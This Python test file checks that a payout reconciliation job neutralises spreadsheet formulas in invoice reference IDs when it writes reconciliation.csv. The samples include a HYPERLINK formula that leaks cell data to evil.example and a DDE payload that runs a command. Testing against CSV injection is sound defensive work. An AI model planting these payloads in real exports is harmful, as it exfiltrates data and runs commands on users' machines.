"""reconciliation.csv is safe to open in a spreadsheet whatever the gateway's invoices hold."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'


def test_a_formula_in_an_invoice_reference_is_neutralised(
    gateway_conn: Any, run_dag: Callable[..., Any], tmp_path: Path
) -> None:
    """Another tool's invoice with a hostile reference (any text is a valid reference_id)."""
    for reference in (FORMULA, "-2+3+cmd|' /C calc'!A0"):
        gateway_conn.admin(
            "POST",
            "invoices",
            json={
                "service": "test_usd",
                "currency": "USD",
                "amount": 5,
                "reference_id": reference,
                "fields": {"account": "4000123412"},
                "status": "process_failed",
            },
        )
    now = datetime.now(UTC)
    tomorrow = datetime(now.year, now.month, now.day, 0, 0, 1, tzinfo=UTC) + timedelta(days=1)

    result = run_dag(
        "payout_reconciliation", {"output_dir": str(tmp_path), "lookback_days": 0}, logical_date=tomorrow
    )

    assert result.tasks["reconcile"] == "success"
    (folder,) = (tmp_path / "reconciliation").iterdir()
    with (folder / "reconciliation.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["reference_id"] for r in rows) == sorted(["'" + FORMULA, "'-2+3+cmd|' /C calc'!A0"])
    assert {r["category"] for r in rows} == {"failed"}
    assert {r["amount"] for r in rows} == {"5.00"}
